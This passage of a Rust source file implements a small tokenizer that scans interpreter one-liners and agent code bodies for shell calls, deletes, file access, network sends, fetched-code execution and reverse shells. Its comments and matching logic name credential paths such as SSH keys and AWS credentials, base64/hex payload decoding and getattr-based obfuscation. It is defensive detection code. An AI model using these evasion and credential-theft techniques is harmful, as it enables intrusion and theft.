//! Interpreter bodies: what a `python -c`, `perl -e`, `ruby -e`, `node -e`,
//! `php -r` or `lua -e` program, or a Tcl script (`tclsh`, [`scan_tcl`]), or Hermes's
//! `execute_code` would do to the system,
//! as facts the walker turns into commands the packs already judge.
//!
//! Why no crate: a full parser per language (rustpython-parser, tree-sitter
//! grammars) is a large dependency for six languages, and what matters here
//! is lexical — string literals, the call they are passed to, simple
//! `name = "literal"` assignments. So this is one small tokenizer shared by
//! the six languages (quotes, triple quotes, string prefixes, comments,
//! backticks, `qx`/`%x`), bounded by the input size and a token budget.
//!
//! Found: a command line run by a shell (`os.system`, `subprocess.*(…,
//! shell=True)`, `system`, backticks, `execSync`, `shell_exec`, …); an argv
//! run directly (`subprocess.run([...])`, `spawn`); a delete (`shutil.rmtree`,
//! `FileUtils.rm_rf`, `fs.rmSync(…, {recursive})`, `os.remove` in a loop); a
//! file opened for writing; a URL fetched (and whether fetched code is run);
//! a socket wired to a shell. A shell string or path that is not a literal
//! is reported as dynamic.
//!
//! Over 800 lines on purpose: one tokenizer shared by six languages plus the call
//! table that turns each language's calls into facts; splitting per language would copy the
//! tokenizer's state into every file. About 190 lines are its tests.

/// Most tokens scanned per body.
const MAX_TOKENS: usize = 8192;

/// The language of a body.
#[derive(Clone, Copy, PartialEq, Eq, Debug)]
pub(crate) enum Lang {
    Python,
    Perl,
    Ruby,
    Node,
    Php,
    Lua,
    /// Tcl (`tclsh`, `wish`, `expect`): read by [`scan_tcl`], its own small reader.
    Tcl,
}

impl Lang {
    /// The language of an interpreter program name (`python3.12`, `nodejs`, …).
    pub(crate) fn of(program: &str) -> Option<Lang> {
        if program.starts_with("python") || program.starts_with("pypy") {
            Some(Lang::Python)
        } else if program == "perl" || program.starts_with("perl5") {
            Some(Lang::Perl)
        } else if program == "ruby" || program == "jruby" {
            Some(Lang::Ruby)
        } else if matches!(program, "node" | "nodejs" | "bun" | "deno") {
            Some(Lang::Node)
        } else if program == "php" || program.starts_with("php8") || program.starts_with("php7") {
            Some(Lang::Php)
        } else if program.starts_with("lua") {
            Some(Lang::Lua)
        } else if program.starts_with("tclsh") || program.starts_with("wish") || program == "expect"
        {
            Some(Lang::Tcl)
        } else {
            None
        }
    }
}

/// One fact about a body.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) enum Found {
    /// A command line given to a shell.
    Shell { text: String, dynamic: bool },
    /// A program run with an argument vector (`None` = a non-literal element).
    Argv(Vec<Option<String>>),
    /// A file or tree deleted.
    Delete {
        path: Option<String>,
        recursive: bool,
    },
    /// A file opened for writing.
    Write(String),
    /// A file read (`open(p)`, `readFileSync(p)`, `File.read(p)`, `file_get_contents(p)`).
    Read(String),
    /// The body sends data over the network (a POST / PUT, a request body, `data=`,
    /// `files=`, a socket write), not only fetches: what it read may be what it sends.
    Sends,
    /// The whole environment read (see [`reads_whole_env`]), in a body that also fetches.
    ReadEnv,
    /// A URL fetched.
    Fetch(String),
    /// Code fetched from the network is executed (`exec(urlopen(…).read())`).
    RunFetched,
    /// A socket connected to a shell (reverse shell); the host if literal.
    ReverseShell(String),
}

#[derive(Clone, Debug, PartialEq)]
enum Tok {
    Id(String),
    Str(String, bool),
    /// A backtick / `qx` / `%x` command (shell), dynamic if interpolated.
    Cmd(String, bool),
    P(char),
}

struct Lexer<'a> {
    c: Vec<char>,
    i: usize,
    lang: Lang,
    out: Vec<Tok>,
    _s: &'a str,
}

fn closer(c: char) -> char {
    match c {
        '(' => ')',
        '[' => ']',
        '{' => '}',
        '<' => '>',
        c => c,
    }
}

impl Lexer<'_> {
    fn push(&mut self, t: Tok) -> bool {
        if self.out.len() >= MAX_TOKENS {
            return false;
        }
        self.out.push(t);
        true
    }

    /// A quoted literal starting at the quote; returns (text, interpolated).
    fn string(&mut self, raw: bool, fmt: bool) -> (String, bool) {
        let q = self.c[self.i];
        let triple = self.lang == Lang::Python
            && self.c.get(self.i + 1) == Some(&q)
            && self.c.get(self.i + 2) == Some(&q);
        self.i += if triple { 3 } else { 1 };
        let mut s = String::new();
        let mut interp = false;
        let interpolating = match self.lang {
            Lang::Python => fmt,
            Lang::Node => q == '`',
            Lang::Perl | Lang::Php | Lang::Ruby => q == '"',
            Lang::Lua | Lang::Tcl => false,
        };
        while self.i < self.c.len() {
            let ch = self.c[self.i];
            if ch == q
                && (!triple
                    || (self.c.get(self.i + 1) == Some(&q) && self.c.get(self.i + 2) == Some(&q)))
            {
                self.i += if triple { 3 } else { 1 };
                return (s, interp);
            }
            if ch == '\\' && self.i + 1 < self.c.len() {
                let e = self.c[self.i + 1];
                self.i += 2;
                if raw || (q == '\'' && self.lang != Lang::Python && self.lang != Lang::Node) {
                    if e == q || e == '\\' {
                        s.push(e);
                    } else {
                        s.push('\\');
                        s.push(e);
                    }
                    continue;
                }
                match e {
                    'n' => s.push('\n'),
                    't' => s.push('\t'),
                    'x' | 'u' | '0'..='7' => {
                        let mut esc = String::from('\\');
                        esc.push(e);
                        while self.i < self.c.len()
                            && self.c[self.i].is_ascii_hexdigit()
                            && esc.len() < 6
                        {
                            esc.push(self.c[self.i]);
                            self.i += 1;
                        }
                        s.push_str(&super::expand::unescape(&esc, false));
                    }
                    e => s.push(e),
                }
                continue;
            }
            if interpolating
                && ((ch == '{' && self.lang == Lang::Python)
                    || (ch == '$' && self.c.get(self.i + 1) == Some(&'{'))
                    || (ch == '#' && self.c.get(self.i + 1) == Some(&'{'))
                    || (matches!(self.lang, Lang::Perl | Lang::Php)
                        && matches!(ch, '$' | '@')
                        && self
                            .c
                            .get(self.i + 1)
                            .is_some_and(|c| c.is_alphabetic() || *c == '_' || *c == '{')))
            {
                interp = true;
            }
            s.push(ch);
            self.i += 1;
        }
        (s, interp)
    }

    /// `qx(...)`, `%x{...}`: the text up to the matching closer.
    fn delimited(&mut self) -> String {
        let open = self.c[self.i];
        let close = closer(open);
        self.i += 1;
        let mut depth = 0usize;
        let mut s = String::new();
        while self.i < self.c.len() {
            let ch = self.c[self.i];
            self.i += 1;
            if ch == close && depth == 0 {
                break;
            }
            if ch == open && open != close {
                depth += 1;
            } else if ch == close {
                depth -= 1;
            }
            s.push(ch);
        }
        s
    }

    fn run(&mut self) {
        while self.i < self.c.len() {
            let ch = self.c[self.i];
            if ch.is_whitespace() {
                self.i += 1;
                continue;
            }
            let js_comment = matches!(self.lang, Lang::Node | Lang::Php);
            if (ch == '#' && self.lang != Lang::Node)
                || (js_comment && ch == '/' && self.c.get(self.i + 1) == Some(&'/'))
            {
                while self.i < self.c.len() && self.c[self.i] != '\n' {
                    self.i += 1;
                }
                continue;
            }
            if js_comment && ch == '/' && self.c.get(self.i + 1) == Some(&'*') {
                self.i += 2;
                while self.i + 1 < self.c.len()
                    && !(self.c[self.i] == '*' && self.c[self.i + 1] == '/')
                {
                    self.i += 1;
                }
                self.i += 2;
                continue;
            }
            if ch == '\'' || ch == '"' {
                let (s, interp) = self.string(false, false);
                if !self.push(Tok::Str(s, interp)) {
                    return;
                }
                continue;
            }
            if ch == '`' {
                let (s, interp) = self.string(false, false);
                let t = if self.lang == Lang::Node {
                    Tok::Str(s, interp)
                } else {
                    Tok::Cmd(s, interp || s_has_var(self.lang))
                };
                if !self.push(t) {
                    return;
                }
                continue;
            }
            if ch == '%'
                && self.lang == Lang::Ruby
                && self.c.get(self.i + 1) == Some(&'x')
                && self
                    .c
                    .get(self.i + 2)
                    .is_some_and(|c| "({[<|!/".contains(*c))
            {
                self.i += 2;
                let s = self.delimited();
                let interp = s.contains("#{");
                if !self.push(Tok::Cmd(s, interp)) {
                    return;
                }
                continue;
            }
            if ch.is_alphabetic()
                || ch == '_'
                || ((ch == '$' || ch == '@') && self.lang != Lang::Python)
            {
                let start = self.i;
                self.i += 1;
                while self.i < self.c.len() {
                    let d = self.c[self.i];
                    if d.is_alphanumeric() || d == '_' {
                        self.i += 1;
                    } else if (d == '.' || (d == ':' && self.c.get(self.i + 1) == Some(&':')))
                        && self
                            .c
                            .get(self.i + if d == ':' { 2 } else { 1 })
                            .is_some_and(|c| c.is_alphabetic() || *c == '_')
                    {
                        self.i += if d == ':' { 2 } else { 1 };
                    } else {
                        break;
                    }
                }
                let id: String = self.c[start..self.i].iter().collect();
                let next = self.c.get(self.i).copied();
                // string prefixes: r'', b'', f'', rb'' …
                if self.lang == Lang::Python
                    && matches!(next, Some('\'') | Some('"'))
                    && id.len() <= 2
                    && id.chars().all(|c| "rRbBfFuU".contains(c))
                {
                    let raw = id.contains(['r', 'R']);
                    let fmt = id.contains(['f', 'F']);
                    let (s, interp) = self.string(raw, fmt);
                    if !self.push(Tok::Str(s, interp)) {
                        return;
                    }
                    continue;
                }
                if self.lang == Lang::Perl
                    && (id == "qx" || id == "qq" || id == "q")
                    && next.is_some_and(|c| "({[<|!/".contains(c))
                {
                    let s = self.delimited();
                    let interp = id != "q" && s.contains(['$', '@']);
                    let t = if id == "qx" {
                        Tok::Cmd(s, interp)
                    } else {
                        Tok::Str(s, interp)
                    };
                    if !self.push(t) {
                        return;
                    }
                    continue;
                }
                if !self.push(Tok::Id(id)) {
                    return;
                }
                continue;
            }
            if ch == '.'
                && self
                    .c
                    .get(self.i + 1)
                    .is_some_and(|c| c.is_alphabetic() || *c == '_')
            {
                // method call on an expression: `.execSync(` → `execSync`
                self.i += 1;
                continue;
            }
            self.i += 1;
            if !self.push(Tok::P(ch)) {
                return;
            }
        }
    }
}

fn s_has_var(_lang: Lang) -> bool {
    false
}

fn last(id: &str) -> &str {
    let id = id.rsplit("::").next().unwrap_or(id);
    id.rsplit('.').next().unwrap_or(id)
}

/// A value an argument evaluates to.
#[derive(Clone, Debug, PartialEq)]
enum Val {
    Str(String),
    List(Vec<Option<String>>),
    Dyn,
}

struct Scan<'t> {
    t: &'t [Tok],
    lang: Lang,
    vars: Vec<(String, Val)>,
}

/// Calls returning a child process (or its id) of the body itself.
const CHILD_FNS: &[&str] = &[
    "Popen",
    "fork",
    "forkpty",
    "spawn",
    "create_subprocess_exec",
    "create_subprocess_shell",
    "execFile",
];

/// Expressions naming the body's own process.
const OWN_PID: &[&str] = &[
    "os.getpid",
    "getpid",
    "process.pid",
    "Process.pid",
    "getmypid",
];

/// `-1`, `1234`: a literal integer (the tokenizer gives digits one by one).
fn int_literal(t: &[Tok]) -> Option<String> {
    let mut s = String::new();
    for (i, tok) in t.iter().enumerate() {
        match tok {
            Tok::P('-') if i == 0 => s.push('-'),
            Tok::P(c) if c.is_ascii_digit() => s.push(*c),
            _ => return None,
        }
    }
    s.bytes().any(|b| b.is_ascii_digit()).then_some(s)
}

/// `s` reads as SQL: one of its `;`-separated statements, after `--` / `/* */` comments,
/// starts with a statement's verb (`BEGIN; DROP TABLE x`, `-- cleanup\nTRUNCATE t`).
fn is_sql(s: &str) -> bool {
    s.split(';').any(|st| {
        let mut t = st.trim_start();
        loop {
            if let Some(r) = t.strip_prefix("--") {
                t = r.split_once('\n').map_or("", |(_, r)| r).trim_start();
            } else if let Some(r) = t.strip_prefix("/*") {
                t = r.split_once("*/").map_or("", |(_, r)| r).trim_start();
            } else {
                break;
            }
        }
        let w = t.split([' ', '\t', '\n', '\r']).next().unwrap_or("");
        [
            "DROP", "TRUNCATE", "DELETE", "ALTER", "UPDATE", "INSERT", "CREATE", "GRANT", "REVOKE",
            "SELECT", "WITH", "MERGE", "EXPLAIN", "REPLACE",
        ]
        .iter()
        .any(|v| w.eq_ignore_ascii_case(v))
    })
}

/// A lookup of an environment variable by name (`os.environ[…]`, `getenv(…)`, `$ENV{…}`).
fn is_env_lookup(id: &str) -> bool {
    matches!(
        id,
        "os.environ"
            | "os.getenv"
            | "os.environ.get"
            | "getenv"
            | "ENV"
            | "$ENV"
            | "ENV.fetch"
            | "$_SERVER"
            | "$_ENV"
            | "Deno.env.get"
    )
}

/// An interpolated string whose only interpolation is the home directory
/// (`"$ENV{HOME}/.ssh/id_rsa"`, `"#{Dir.home}/.aws/credentials"`), with `~` in its place.
fn home_interpolated(s: &str) -> Option<String> {
    let mut out = s.to_string();
    for h in [
        "$ENV{HOME}",
        "${HOME}",
        "#{Dir.home}",
        "#{ENV['HOME']}",
        "#{ENV[\"HOME\"]}",
        "{$_SERVER['HOME']}",
        "$HOME",
    ] {
        out = out.replace(h, "~");
    }
    (!out.contains(['$', '{'])).then_some(out)
}

fn is_home_expr(id: &str) -> bool {
    matches!(
        id,
        "Dir.home"
            | "Path.home"
            | "pathlib.Path.home"
            | "os.homedir"
            | "homedir"
            | "process.env.HOME"
            | "vim.env.HOME"
    )
}

impl Scan<'_> {
    /// Index after the group opened at `i` (`(`, `[`, `{`).
    fn group_end(&self, i: usize) -> usize {
        let mut depth = 0i32;
        for k in i..self.t.len() {
            match self.t[k] {
                Tok::P('(' | '[' | '{') => depth += 1,
                Tok::P(')' | ']' | '}') => {
                    depth -= 1;
                    if depth <= 0 {
                        return k + 1;
                    }
                }
                _ => {}
            }
        }
        self.t.len()
    }

    /// The arguments of a call whose name is at `i`: the token ranges of its
    /// top-level comma-separated arguments (paren or, for Perl/Ruby, bare).
    fn call_args(&self, i: usize) -> Vec<(usize, usize)> {
        let mut out = Vec::new();
        let (start, end) = match self.t.get(i + 1) {
            Some(Tok::P('(')) => (i + 2, self.group_end(i + 1).saturating_sub(1)),
            Some(Tok::Str(..) | Tok::Id(_) | Tok::P('[')) if self.lang != Lang::Python => {
                self.bare_args(i)
            }
            // Perl `kill 9, $pid` / `kill -9, $pid` / `chmod 0755, $f`
            Some(Tok::P(c))
                if self.lang == Lang::Perl
                    && (c.is_ascii_digit() || *c == '-')
                    && matches!(&self.t[i], Tok::Id(x) if x == "kill" || x == "chmod") =>
            {
                self.bare_args(i)
            }
            _ => return out,
        };
        let mut s = start;
        let mut k = start;
        while k < end {
            match self.t[k] {
                Tok::P('(' | '[' | '{') => k = self.group_end(k),
                Tok::P(',') => {
                    out.push((s, k));
                    k += 1;
                    s = k;
                }
                _ => k += 1,
            }
        }
        if s < end {
            out.push((s, end.min(self.t.len())));
        }
        out
    }

    /// The token range of a call's arguments written without parentheses.
    fn bare_args(&self, i: usize) -> (usize, usize) {
        let mut k = i + 1;
        while k < self.t.len() && !matches!(self.t[k], Tok::P(';' | ')' | '}')) {
            k = match self.t[k] {
                Tok::P('(' | '[' | '{') => self.group_end(k),
                _ => k + 1,
            };
        }
        (i + 1, k)
    }

    /// Evaluate tokens `a..b` as a literal string, list of literals, or dynamic.
    fn eval(&self, a: usize, b: usize) -> Val {
        let toks = &self.t[a.min(b)..b];
        if let Some(Tok::P('[')) = toks.first() {
            let mut v = Vec::new();
            let end = self.group_end(a) - 1;
            let mut s = a + 1;
            let mut k = a + 1;
            while k <= end {
                if k == end || self.t[k] == Tok::P(',') {
                    if s < k {
                        v.push(match self.eval(s, k) {
                            Val::Str(x) => Some(x),
                            _ => None,
                        });
                    }
                    s = k + 1;
                }
                k += 1;
            }
            return Val::List(v);
        }
        let mut out = String::new();
        let mut any = false;
        let mut k = 0;
        while k < toks.len() {
            match &toks[k] {
                Tok::Str(s, false) => {
                    out.push_str(s);
                    any = true;
                }
                // `require('os').homedir()`: the module's name is no part of the path
                Tok::Id(id)
                    if id == "require"
                        && matches!(toks.get(k + 1), Some(Tok::P('(')))
                        && matches!(toks.get(k + 2), Some(Tok::Str(..)))
                        && matches!(toks.get(k + 3), Some(Tok::P(')'))) =>
                {
                    k += 4;
                    continue;
                }
                Tok::P('+' | '.' | '(' | ')') => {}
                Tok::Id(id) if is_home_expr(id) => {
                    out.push('~');
                    any = true;
                }
                // os.environ['HOME'], os.getenv('HOME'), $ENV{HOME}, ENV['HOME'], getenv("HOME")
                Tok::Id(id)
                    if is_env_lookup(id)
                        && matches!(toks.get(k + 1), Some(Tok::P('[' | '(' | '{')))
                        && matches!(toks.get(k + 2), Some(Tok::Str(h, _) | Tok::Id(h)) if h == "HOME")
                        && matches!(toks.get(k + 3), Some(Tok::P(']' | ')' | '}'))) =>
                {
                    out.push('~');
                    any = true;
                    k += 4;
                    continue;
                }
                Tok::Str(s, true) => match home_interpolated(s) {
                    Some(h) => {
                        out.push_str(&h);
                        any = true;
                    }
                    None => return Val::Dyn,
                },
                Tok::Id(id)
                    if matches!(
                        last(id),
                        "decode"
                            | "encode"
                            | "toString"
                            | "strip"
                            | "expanduser"
                            | "expand_path"
                            | "abspath"
                            | "realpath"
                            | "resolve"
                            | "join"
                            | "Path"
                    ) =>
                {
                    // `os.path.join('/etc', 'x')` with literal parts
                    if last(id) == "join" && matches!(toks.get(k + 1), Some(Tok::P('('))) {
                        let parts: Vec<Val> = self
                            .call_args(a + k)
                            .into_iter()
                            .map(|(x, y)| self.eval(x, y))
                            .collect();
                        let mut p = String::new();
                        for v in &parts {
                            match v {
                                Val::Str(s) => {
                                    if !p.is_empty() && !p.ends_with('/') {
                                        p.push('/');
                                    }
                                    p.push_str(s);
                                }
                                _ => return Val::Dyn,
                            }
                        }
                        out.push_str(&p);
                        any = true;
                        k = self.group_end(a + k + 1) - a;
                        continue;
                    }
                }
                Tok::Id(id) => match self.var(id) {
                    Some(Val::Str(s)) => {
                        out.push_str(&s);
                        any = true;
                    }
                    Some(l @ Val::List(_)) if toks.len() == 1 => return l,
                    _ => return Val::Dyn,
                },
                _ => return Val::Dyn,
            }
            k += 1;
        }
        if any {
            Val::Str(out)
        } else {
            Val::Dyn
        }
    }

    fn var(&self, id: &str) -> Option<Val> {
        let id = id.trim_start_matches(['$', '@']);
        self.vars
            .iter()
            .rev()
            .find(|(n, _)| n == id)
            .map(|(_, v)| v.clone())
    }

    /// A process-kill call (`os.kill(pid, 9)`, `os.killpg`, `Process.kill(:KILL, pid)`,
    /// `process.kill(pid, 'SIGKILL')`, `posix_kill`, Perl `kill 9, $pid`) as the
    /// argv of the `kill` command it amounts to, so the packs judge both forms
    /// alike: a target that is not a literal pid is dynamic (`kill -9 …`), a
    /// child the body started itself (`p = Popen(…); os.kill(p.pid, 9)`) or its
    /// own pid is the job spec `%child` (like `kill %1`), a literal stays literal
    /// (`os.kill(-1, 9)` is `kill -9 -1`).
    /// A mode change (`os.chmod(p, 0o4755)`, `fs.chmodSync(p, 0o777)`, `File.chmod(04755, p)`,
    /// Perl's `chmod 04755, $p`, PHP's `chmod($p, 0777)`) as the `chmod MODE PATH` it amounts
    /// to (octal; `u+s` / `g+s` for a mode naming `S_ISUID` / `S_ISGID`; a mode or path
    /// that is not literal is a dynamic word).
    fn chmod(&self, lang: Lang, full: &str, args: &[(usize, usize)]) -> Option<Found> {
        let mode_first = match (lang, full) {
            (Lang::Python, "os.chmod" | "os.lchmod")
            | (Lang::Node, "fs.chmodSync" | "fs.chmod" | "chmodSync" | "Deno.chmodSync")
            | (Lang::Php, "chmod") => false,
            (Lang::Ruby, "File.chmod" | "FileUtils.chmod") | (Lang::Perl, "chmod") => true,
            _ => return None,
        };
        let (m, p) = match mode_first {
            true => (args.first()?, args.get(1)?),
            false => (args.get(1)?, args.first()?),
        };
        let toks = &self.t[m.0..m.1];
        let text: String = toks
            .iter()
            .map(|t| match t {
                Tok::P(c) => c.to_string(),
                Tok::Id(i) => i.clone(),
                _ => String::new(),
            })
            .collect();
        let octal = |o: &str| {
            o.bytes()
                .all(|b| (b'0'..=b'7').contains(&b))
                .then(|| o.to_string())
        };
        let mode = if text.contains("S_ISUID") {
            Some("u+s".to_string())
        } else if text.contains("S_ISGID") {
            Some("g+s".to_string())
        } else if let Some(o) = text.strip_prefix("0o").or_else(|| text.strip_prefix("0O")) {
            octal(o)
        } else if text.bytes().all(|b| b.is_ascii_digit()) && !text.is_empty() {
            match text.starts_with('0') && lang != Lang::Python {
                // `04755` (Perl, Ruby, PHP, Node's legacy octal)
                true => octal(&text),
                // a plain number is decimal (`493` is 0o755)
                false => text.parse::<u32>().ok().map(|n| format!("{n:o}")),
            }
        } else {
            None
        };
        let path = match self.eval(p.0, p.1) {
            Val::Str(s) => Some(s),
            _ => None,
        };
        // (an unknown mode or path is a dynamic word, as `chmod $M $P` would be)
        Some(Found::Argv(vec![Some("chmod".into()), mode, path]))
    }

    fn kill(
        &self,
        lang: Lang,
        full: &str,
        args: &[(usize, usize)],
        children: &[String],
    ) -> Option<Found> {
        // (signal first?, process group?)
        let (sig_first, group) = match (lang, full) {
            (Lang::Python, "os.kill" | "kill") => (false, false),
            (Lang::Python, "os.killpg" | "killpg") => (false, true),
            (Lang::Ruby, "Process.kill") | (Lang::Perl, "kill") => (true, false),
            (Lang::Node, "process.kill") | (Lang::Php, "posix_kill") => (false, false),
            _ => return None,
        };
        let (sig, targets) = if sig_first {
            (args.first().map(|&(a, b)| self.signal(a, b)), &args[1..])
        } else {
            (
                args.get(1).map(|&(a, b)| self.signal(a, b)),
                &args[..1.min(args.len())],
            )
        };
        // Node's and PHP's default is SIGTERM; Python, Ruby and Perl need one
        let sig = sig.unwrap_or_else(|| Some("-TERM".into()));
        let mut argv = vec![Some("kill".to_string()), sig];
        for &(a, b) in targets {
            let t = &self.t[a..b];
            let own = t.iter().any(|x| {
                matches!(x, Tok::Id(id) if OWN_PID.contains(&id.as_str())
                    || children.iter().any(|c| id.trim_start_matches('$') == c
                        || id.strip_suffix(".pid").is_some_and(|v| v.trim_start_matches('$') == c)))
            });
            argv.push(if own {
                Some("%child".into())
            } else if let Some(n) = int_literal(t) {
                Some(if group && !n.starts_with('-') {
                    format!("-{n}")
                } else {
                    n
                })
            } else {
                match self.eval(a, b) {
                    Val::Str(s) if int_literal_str(&s) => Some(s),
                    _ => None,
                }
            });
        }
        Some(Found::Argv(argv))
    }

    /// A signal argument as a `kill` option (`9` → `-9`, `signal.SIGKILL`,
    /// `'KILL'`, `:KILL` → `-KILL`); `None` if not literal.
    fn signal(&self, a: usize, b: usize) -> Option<String> {
        let t: Vec<&Tok> = self.t[a..b]
            .iter()
            .filter(|x| !matches!(x, Tok::P(':' | '-')))
            .collect();
        let name = match t.as_slice() {
            // a constant (`signal.SIGKILL`, `:KILL`), else a variable's literal value
            [Tok::Id(id)] if last(id).bytes().all(|c| !c.is_ascii_lowercase()) => {
                last(id).to_string()
            }
            [Tok::Id(id)] => match self.var(id)? {
                Val::Str(s) if int_literal_str(&s) => {
                    return Some(format!("-{}", s.trim_start_matches('-')))
                }
                Val::Str(s) => s,
                _ => return None,
            },
            [Tok::Str(s, false)] => s.clone(),
            _ => {
                let n = int_literal(&self.t[a..b])?;
                return Some(format!("-{}", n.trim_start_matches('-')));
            }
        };
        let name = name.to_ascii_uppercase();
        let name = name.strip_prefix("SIG").unwrap_or(&name);
        (!name.is_empty() && name.bytes().all(|c| c.is_ascii_alphanumeric()))
            .then(|| format!("-{name}"))
    }

    fn has_kw(&self, a: usize, b: usize, key: &str, val: &str) -> bool {
        (a..b.saturating_sub(2)).any(|k| {
            matches!(&self.t[k], Tok::Id(x) if x == key)
                && self.t[k + 1] == Tok::P('=')
                && matches!(&self.t[k + 2], Tok::Id(x) if x == val)
        })
    }
}

fn int_literal_str(s: &str) -> bool {
    let d = s.strip_prefix('-').unwrap_or(s);
    !d.is_empty() && d.bytes().all(|b| b.is_ascii_digit())
}

/// Decode `b64decode('…')`, `atob('…')`, `base64_decode('…')`,
/// `Base64.decode64('…')`, `Buffer.from('…','base64')`, Perl's `pack("H*", "…")` into
/// string literals.
fn fold_decoders(t: &mut Vec<Tok>) {
    let mut k = 0;
    while k + 3 < t.len() {
        if let [Tok::Id(p), Tok::P('('), Tok::Str(f, false), Tok::P(','), Tok::Str(h, false), Tok::P(')'), ..] =
            &t[k..]
        {
            if p == "pack" && f == "H*" {
                if let Some(d) = super::expand::hex(h) {
                    let d = String::from_utf8_lossy(&d).into_owned();
                    t.splice(k..k + 6, [Tok::Str(d, false)]);
                }
            }
        }
        let is_hex = matches!(&t[k], Tok::Id(id) if matches!(last(id), "fromhex" | "unhexlify" | "a2b_hex" | "hex2bin"));
        let is_dec = is_hex
            || matches!(&t[k], Tok::Id(id) if matches!(last(id), "b64decode" | "standard_b64decode" | "urlsafe_b64decode" | "atob" | "base64_decode" | "decode64" | "decode_base64" | "from"));
        if is_dec && t[k + 1] == Tok::P('(') {
            if let Tok::Str(s, false) = &t[k + 2] {
                let is_from = matches!(&t[k], Tok::Id(id) if last(id) == "from");
                let ok = !is_from || matches!(t.get(k + 4), Some(Tok::Str(e, _)) if e == "base64");
                let decoded = if is_hex {
                    super::expand::hex(s)
                } else {
                    super::expand::base64(s)
                };
                if ok {
                    if let Some(d) = decoded {
                        let d = String::from_utf8_lossy(&d).into_owned();
                        // drop up to the closing paren
                        let mut end = k + 3;
                        while end < t.len() && t[end] != Tok::P(')') {
                            end += 1;
                        }
                        // the module it is called on, imported in place
                        // (`__import__('base64').b64decode(…)`), goes with it
                        let from =
                            match t.get(k.saturating_sub(4)..k) {
                                Some(
                                    [Tok::Id(i), Tok::P('('), Tok::Str(_, false), Tok::P(')')],
                                ) if matches!(last(i), "__import__" | "import_module") => k - 4,
                                _ => k,
                            };
                        t.splice(from..(end + 1).min(t.len()), [Tok::Str(d, false)]);
                        k = from;
                    }
                }
            }
        }
        k += 1;
    }
}

/// Python's `getattr(MODULE, NAME)(…)` with a literal `NAME` (also built with `+`, the
/// module imported in place: `getattr(__import__('o'+'s'), 'sys'+'tem')(…)`) is the call
/// `MODULE.NAME(…)`: the callee becomes that one name.
fn fold_getattr(t: &mut Vec<Tok>) {
    let mut k = 0;
    while k + 1 < t.len() {
        let rewrite = {
            let sc = Scan {
                t,
                lang: Lang::Python,
                vars: Vec::new(),
            };
            let is_getattr =
                matches!(&t[k], Tok::Id(i) if i == "getattr") && t[k + 1] == Tok::P('(');
            let args = if is_getattr {
                sc.call_args(k)
            } else {
                Vec::new()
            };
            let close = if is_getattr { sc.group_end(k + 1) } else { 0 };
            match (&args[..], t.get(close)) {
                ([(ma, mb), (na, nb)], Some(Tok::P('('))) => match sc.eval(*na, *nb) {
                    Val::Str(name) if !name.is_empty() => {
                        let module = match &t[*ma..*mb] {
                            [Tok::Id(i), Tok::P('('), ..] if last(i) == "__import__" => {
                                match sc.eval(ma + 2, sc.group_end(ma + 1).saturating_sub(1)) {
                                    Val::Str(m) => m,
                                    _ => "?".into(),
                                }
                            }
                            [Tok::Id(m)] => m.clone(),
                            _ => "?".into(),
                        };
                        Some((close, format!("{module}.{name}")))
                    }
                    _ => None,
                },
                _ => None,
            }
        };
        if let Some((close, callee)) = rewrite {
            t.splice(k..close, [Tok::Id(callee)]);
        }
        k += 1;
    }
}

/// A Tcl body's commands, a command's words (braces and quotes grouped, `[…]` command
/// substitutions scanned as bodies of their own and dynamic in the word): `exec ARGS` runs a
/// program (a pipeline or redirection in it makes it a shell line), `file delete ?-force?
/// PATH…` deletes. `$env(HOME)` is the home; any other variable is dynamic.
fn scan_tcl(code: &str, depth: usize) -> Vec<Found> {
    let mut out = Vec::new();
    let c: Vec<char> = code.chars().take(super::MAX_INPUT).collect();
    // (words of the current command; a word: text, dynamic)
    let mut words: Vec<(String, bool)> = Vec::new();
    let mut cur: Option<(String, bool)> = None;
    let mut i = 0;
    while i < c.len() {
        let ch = c[i];
        match ch {
            '\n' | ';' => {
                words.extend(cur.take());
                tcl_command(&words, &mut out);
                words.clear();
                i += 1;
            }
            ' ' | '\t' | '\r' => {
                words.extend(cur.take());
                i += 1;
            }
            '#' if cur.is_none() && words.is_empty() => {
                while i < c.len() && c[i] != '\n' {
                    i += 1;
                }
            }
            '{' if cur.is_none() => {
                // a braced word: literal up to the matching brace
                let start = i + 1;
                i = closing(&c, i, '{', '}');
                let body: String = c[start..i].iter().collect();
                // a braced body (`if {…} { exec … }`, `proc p {} {…}`) may hold commands
                if depth < MAX_EVAL_DEPTH && body.contains(['\n', ';', ' ']) {
                    out.extend(scan_tcl(&body, depth + 1));
                }
                cur = Some((body, false));
                i += 1;
            }
            '[' => {
                let start = i + 1;
                i = closing(&c, i, '[', ']');
                let inner: String = c[start..i].iter().collect();
                if depth < MAX_EVAL_DEPTH {
                    out.extend(scan_tcl(&inner, depth + 1));
                }
                cur.get_or_insert_with(|| (String::new(), false)).1 = true;
                i += 1;
            }
            '$' => {
                let rest: String = c[i..c.len().min(i + 16)].iter().collect();
                let w = cur.get_or_insert_with(|| (String::new(), false));
                if let Some(n) = ["$env(HOME)", "$::env(HOME)"]
                    .iter()
                    .find(|p| rest.starts_with(**p))
                {
                    w.0.push('~');
                    i += n.len();
                } else {
                    w.1 = true;
                    i += 1;
                    while i < c.len() && (c[i].is_alphanumeric() || matches!(c[i], '_' | ':')) {
                        i += 1;
                    }
                }
            }
            '"' => {
                cur.get_or_insert_with(|| (String::new(), false));
                i += 1;
                while i < c.len() && c[i] != '"' {
                    if c[i] == '$' || c[i] == '[' {
                        // variables and substitutions inside quotes: read as above
                        break;
                    }
                    if let Some(w) = cur.as_mut() {
                        w.0.push(c[i]);
                    }
                    i += 1;
                }
                if i < c.len() && c[i] == '"' {
                    i += 1;
                }
            }
            _ => {
                cur.get_or_insert_with(|| (String::new(), false)).0.push(ch);
                i += 1;
            }
        }
    }
    words.extend(cur.take());
    tcl_command(&words, &mut out);
    out
}

/// The index of the `close` matching the `open` at `c[i]` (nesting counted), or `c.len()`.
fn closing(c: &[char], mut i: usize, open: char, close: char) -> usize {
    let mut d = 0usize;
    while i < c.len() {
        if c[i] == open {
            d += 1;
        } else if c[i] == close {
            d -= 1;
            if d == 0 {
                return i;
            }
        }
        i += 1;
    }
    c.len()
}

/// One Tcl command's facts (see [`scan_tcl`]).
fn tcl_command(words: &[(String, bool)], out: &mut Vec<Found>) {
    match words.first().map(|w| w.0.as_str()) {
        Some("exec") => {
            let args: Vec<&(String, bool)> = words[1..]
                .iter()
